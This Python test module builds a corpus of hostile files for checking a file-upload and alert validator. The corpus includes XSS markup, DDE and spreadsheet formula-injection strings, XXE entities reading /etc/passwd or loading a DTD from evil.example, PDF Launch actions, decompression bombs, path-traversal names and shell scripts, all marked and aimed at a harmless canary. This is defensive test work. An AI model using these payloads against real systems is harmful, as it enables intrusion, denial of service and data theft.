"""Hostile files by families, the same for the same number: what attackers, broken programs and bad disks send.

Every payload that could do anything carries MARK, so that a test can tell whether it survived, and would touch a
canary if it ever ran.
"""

import base64
import gzip
import io
import struct
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from itertools import pairwise
from pathlib import Path
from random import Random

from pikepdf import Dictionary, Name, String

from tests.interop.messages import message
from tests.org.files import csv_of, workbook
from tests.paper.documents import OLD, acting, attaching, docx, odt, packed, pdf, relation, xlsx
from tests.paper.files import bomb, photo
from thammuu.paper.rules import MediaType

MARK = "HOSTILE-MARK"
CANARY = "/tmp/thammuu-hostile-canary"  # noqa: S108 - never made; a test looks
REAL = Path(__file__).parents[3] / "shared/data"
SCRIPT = f"<script>/*{MARK}*/alert(1)</script>"
FORMULA = f"=cmd|'/C touch {CANARY} {MARK}'!A0"
NAMES = (
    "ảnh.jpg", "..\\..\\windows\\win.ini", "CON", "aux.txt", "bao cao\u202egpj.exe", "a\u0000b.pdf", "x.php;.jpg",
    ".htaccess", "a" * 300, "\u2066đơn\u2069.docx", "b.csv", "<img src=x onerror=alert(1)>.png", "%2e%2e%2fpasswd",
    "'; DROP TABLE--.txt", "{{7*7}}.txt", "c.svg", "d.html", "e.exe", "-rf", "f.js",
)  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """A file, where it is sent, and whether it must be refused (else it may also be made harmless)."""

    family: str
    place: str
    name: str
    content: bytes
    refused: bool


Maker = Callable[[Random], bytes]


def hostile_files(count: int) -> Iterator[Hostile]:
    """Make so many files, the families in turn."""
    for number in range(count):
        place, family, maker, refused = FAMILIES[number % len(FAMILIES)]
        random = Random(number)
        yield Hostile(family, place, random.choice(NAMES), maker(random), refused)


def _markup(random: Random) -> bytes:
    start = random.choice(["", "\ufeff", " \n\t", "<!-- %PDF-1.4 -->", '<?xml version="1.0"?>', "GIF89a;\n", "x,y\n"])
    body = random.choice(
        [
            f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>',
            f"<!DOCTYPE html><html>{SCRIPT}</html>",
            f"<html xmlns='http://www.w3.org/1999/xhtml'>{SCRIPT}</html>",
            f"<iframe src='javascript:alert(1)'>{MARK}</iframe>",
            f"< script >{MARK}</script>",
            f"<object data='data:text/html,{MARK}'></object>",
        ]
    )
    return (start + body).encode()


def _polyglot(random: Random) -> bytes:
    tail = random.choice(
        [
            SCRIPT.encode(),
            packed({"META-INF/MANIFEST.MF": MARK}),
            b"<?php /*" + MARK.encode(),
            b"%PDF-1.7 " + MARK.encode(),
        ]
    )
    return photo(random.choice([MediaType.JPEG, MediaType.PNG, MediaType.WEBP]), (40, 30)) + tail


def _commented(random: Random) -> bytes:
    inner = f"{SCRIPT}{random.random()}".encode()
    return b"\xff\xd8\xff\xfe" + struct.pack(">H", len(inner) + 2) + inner + photo(size=(40, 30))[2:]


def _pixels(random: Random) -> bytes:
    return bomb(random.choice([30_000, 65_535, 2**31 - 1]), random.choice([30_000, 65_535, 2**31 - 1]))


def _damaged(*makers: Callable[[], bytes]) -> Maker:
    """Flip, cut, double or drop bytes of an honest file."""

    def make(random: Random) -> bytes:
        content = bytearray(random.choice(makers)())
        for _change in range(random.choice([1, 3, 20])):
            place = random.randrange(len(content))
            act = random.randrange(4)
            if act == 0:
                content[place] ^= 1 << random.randrange(8)
            elif act == 1:
                del content[place : place + random.randrange(1, 50)]
            elif act == 2:
                content[place:place] = content[place : place + random.randrange(1, 200)]
            else:
                content[place : place + 4] = random.choice([b"\xff" * 4, bytes(4), b"\x7f\xff\xff\xff"])
            content = content or bytearray(b"x")
        return bytes(content)

    return make


def _unpacking(random: Random) -> bytes:
    """A package of a few hundred KB that unpacks to gigabytes, or to tens of thousands of parts."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        package.writestr("[Content_Types].xml", "<x/>")
        if random.random() < 0.5:
            for number in range(6000):
                package.writestr(f"word/{number}.xml", "<x/>")
        else:
            zeros = bytes(1 << 20)
            with package.open("word/document.xml", "w") as part:
                for _piece in range(260):
                    part.write(zeros)
    return written.getvalue()


def _packed_in_packed(random: Random) -> bytes:
    content = packed({"a": MARK})
    for _level in range(random.randrange(2, 12)):
        content = packed(
            {"[Content_Types].xml": "<x/>", "word/document.xml": "<x/>", "word/embeddings/a.docx": content}
        )
    return content


def _formulas(random: Random) -> bytes:
    start = random.choice(["", " ", "\t", "x;", '"', "\u00a0"])
    other = random.choice(
        [FORMULA, f"@SUM(1)*{MARK}", f"+cmd|'{MARK}'", f'=HYPERLINK("http://evil/{MARK}")', f"-2+3+{MARK}"]
    )
    return f"mã,tên\n{start}{other},2\n".encode()


def _program(random: Random) -> bytes:
    starts = [
        b"MZ\x90\0" + bytes(60),
        b"\x7fELF\2\1\1" + bytes(9),
        b"\xca\xfe\xba\xbe\0\0",
        b"dex\n035\0",
        b"\0asm\1\0\0\0",
    ]
    return random.choice(starts) + MARK.encode()


def _shell(random: Random) -> bytes:
    return (
        f"{random.choice(['#!/bin/sh', '@echo off', 'WScript.Echo', 'import os'])}\ntouch {CANARY} # {MARK}\n".encode()
    )


def _archive(random: Random) -> bytes:
    return random.choice(
        [gzip.compress(bytes(1 << 22)), b"Rar!\x1a\7\0", b"7z\xbc\xaf\x27\x1c", packed({"../../x": MARK})]
    )


def _noise(random: Random) -> bytes:
    start = random.choice(
        [b"", b"%PDF-1.4", b"PK\3\4", OLD[:8], b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"RIFF\0\0\0\0WEBP"]
    )
    return start + random.randbytes(random.randrange(1, 4000))


def _entities(random: Random) -> bytes:
    names = "abcdefghij"[: random.randrange(3, 11)]
    laughs = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise(names))
    types = (
        f'<!DOCTYPE alert [<!ENTITY a "ha">{laughs}]>',
        '<!DOCTYPE alert [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE alert SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE alert [<!ENTITY % p SYSTEM "file:///dev/zero"> %p;]>',
    )
    text = message().replace("Bão số 9", f"&{names[-1]};")
    place = text.index("<alert")
    return (text[:place] + random.choice(types) + text[place:]).encode()


def _deep(random: Random) -> bytes:
    depth = random.choice([300, 5_000, 100_000])
    return random.choice([b"<a>" * depth, b"<alert" + b" a='x'" * depth + b"/>", b"<alert>" + b"x" * 11_000_000])


def _enclosed(random: Random) -> bytes:
    content = message().encode()
    for _level in range(random.randrange(4, 9)):
        inner = base64.b64encode(content).decode()
        content = (
            '<EDXLDistribution xmlns="urn:oasis:names:tc:emergency:EDXL:DE:1.0"><contentObject><nonXMLContent>'
            f"<contentData>{inner}</contentData></nonXMLContent></contentObject></EDXLDistribution>"
        ).encode()
    return content


def _shapes(random: Random) -> bytes:
    arc = str([[number % 90, number % 45] for number in range(20_000)]).encode()
    folded = b'{"type":"Topology","arcs":[' + arc + b'],"objects":{"a":{"geometries":['
    folded += b",".join([b'{"type":"Polygon","arcs":[[0]]}'] * 20_000) + b"]}}}"
    return random.choice(
        [
            folded,
            b"[" * 500_000,
            b'{"type":"Topology","arcs":[],"objects":{"a":{"type":"Polygon","arcs":' + b"[" * 900 + b"]" * 900 + b"}}}",
            b'{"type":"FeatureCollection","features":[{"geometry":{"type":"Polygon","coordinates":[[[1e999,0]]]}}]}',
            b'{"type":"FeatureCollection","features":' + b"1" * 100_000 + b"}",
            b'{"type":"FeatureCollection","features":[{"geometry":{"type":"Point","coordinates":[NaN,0]}}]}',
        ]
    )


def _unit_lines(random: Random) -> bytes:
    return random.choice(
        [
            csv_of(f"{FORMULA},province,{MARK},"),
            csv_of('01,province,"' + "x" * 200_000 + '",'),
            csv_of("01,province,a\0b,"),
            b"code,level,name,parent_code\n" + b"," * 2_000_000,
            _unpacking(random),
            workbook([["code", "level", "name", "parent_code"], ["01", "province", "x" * 32_000, ""]]),
        ]
    )


def _active() -> Sequence[Callable[[], bytes]]:
    field = f"<w:instrText xmlns:w='w'>DDEAUTO cmd '/C touch {CANARY} {MARK}'</w:instrText>"
    return (
        lambda: docx(word__vbaProject_bin=MARK),
        lambda: docx(field),
        lambda: docx(relations=relation("attachedTemplate", f"http://evil.example/{MARK}.dotm")),
        lambda: docx(word__embeddings__oleObject1_bin=OLD + MARK.encode()),
        lambda: docx(word__x_xml=f'<!DOCTYPE x [<!ENTITY a "{MARK}">]><x>&a;</x>'),
        lambda: docx(**{"..__..__x_xml": f"<x>{MARK}</x>"}),
        lambda: xlsx(f"<f>{FORMULA[1:]}</f>"),
        lambda: odt(f"<script:event-listener/>{MARK}"),
        lambda: odt(Basic__Standard__a_xml=f"<x>{MARK}</x>"),
        lambda: pdf(acting(S=Name.JavaScript, JS=String(f"app.launchURL('{MARK}')"))),
        lambda: pdf(acting(S=Name.Launch, Win=Dictionary(F=String("cmd"), P=String(f"touch {CANARY}")))),
        lambda: pdf(attaching),
        lambda: OLD + f"WordDocument_VBA_PROJECT{MARK}".encode("utf-16-le"),
        lambda: SCRIPT.encode() + pdf(),
    )


def _real(pattern: str) -> tuple[Callable[[], bytes], ...]:
    """Real files beside the project, where there are any."""
    return tuple(path.read_bytes for path in sorted(REAL.glob(pattern)) if path.stat().st_size < 500_000)


def _small(kind: MediaType) -> Callable[[], bytes]:
    return lambda: photo(kind, (60, 40))


_PHOTOS = [_small(kind) for kind in (MediaType.JPEG, MediaType.PNG, MediaType.WEBP)]
FAMILIES: tuple[tuple[str, str, Maker, bool], ...] = (
    ("attachment", "markup", _markup, True),
    ("attachment", "picture with a tail", _polyglot, False),
    ("attachment", "active document", lambda random: random.choice(_active())(), True),
    ("alert", "entities", _entities, True),
    ("attachment", "damaged picture", _damaged(*_PHOTOS), False),
    ("attachment", "damaged document", _damaged(docx, xlsx, odt, pdf), False),
    ("units", "unit lines", _unit_lines, True),
    ("attachment", "archive", _archive, True),
    ("attachment", "picture bomb", _pixels, True),
    ("attachment", "formulas", _formulas, False),
    ("alert", "damaged alert", _damaged(lambda: message().encode(), *_real("cap/*.cap"), *_real("cap/*.xml")), False),
    ("attachment", "picture with a comment", _commented, False),
    ("boundaries", "shapes", _shapes, True),
    ("attachment", "program", _program, True),
    ("attachment", "document with a tail", lambda random: random.choice([docx, odt, pdf])() + SCRIPT.encode(), False),
    ("attachment", "shell", _shell, False),
    ("alert", "deep", _deep, True),
    ("attachment", "noise", _noise, False),
    ("attachment", "GIFAR", lambda random: b"GIF89a" + packed({"A.class": MARK, "b": random.randbytes(9)}), True),
    ("units", "damaged workbook", _damaged(lambda: workbook([["code", "level", "name", "parent_code"]])), True),
    ("attachment", "package in package", _packed_in_packed, True),
    ("alert", "enclosed", _enclosed, True),
    ("attachment", "unpacking", _unpacking, True),
    ("alert", "noise as alert", _noise, True),
)  # fmt: skip
